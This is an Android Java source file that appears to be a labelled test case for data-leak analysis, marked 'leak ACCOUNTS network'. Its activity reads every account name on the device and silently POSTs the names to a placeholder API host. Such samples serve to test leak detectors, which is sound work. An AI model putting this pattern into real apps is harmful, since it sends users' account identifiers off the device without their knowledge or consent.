// about       The names of the accounts go into a list and are sent.
// leak        ACCOUNTS network
// permission  android.permission.GET_ACCOUNTS
package cn.example.flow;

import android.accounts.Account;
import android.accounts.AccountManager;
import android.app.Activity;
import android.os.Bundle;
import android.util.Log;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.util.ArrayList;
import java.util.List;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    List<String> names = new ArrayList<String>();
    List<String> marks = new ArrayList<String>();
    for (Account account : AccountManager.get(this).getAccounts()) {
      names.add(account.name);
      marks.add("account");
    }
    // The names.
    post(names.toArray(new String[names.size()]));
  }

  private static void post(final String[] lines) {
    new Thread(new Runnable() {
      @Override
      public void run() {
        try {
          URL url = new URL("https://api.example.com/v1/lines");
          HttpURLConnection link = (HttpURLConnection) url.openConnection();
          link.setDoOutput(true);
          OutputStream out = link.getOutputStream();
          for (int i = 0; i < lines.length; i++) {
            out.write(lines[i].getBytes("UTF-8"));
            out.write('\n');
          }
          out.close();
          link.getResponseCode();
        } catch (IOException e) {
          Log.w("Lines", "not sent");
        }
      }
    }).start();
  }
}
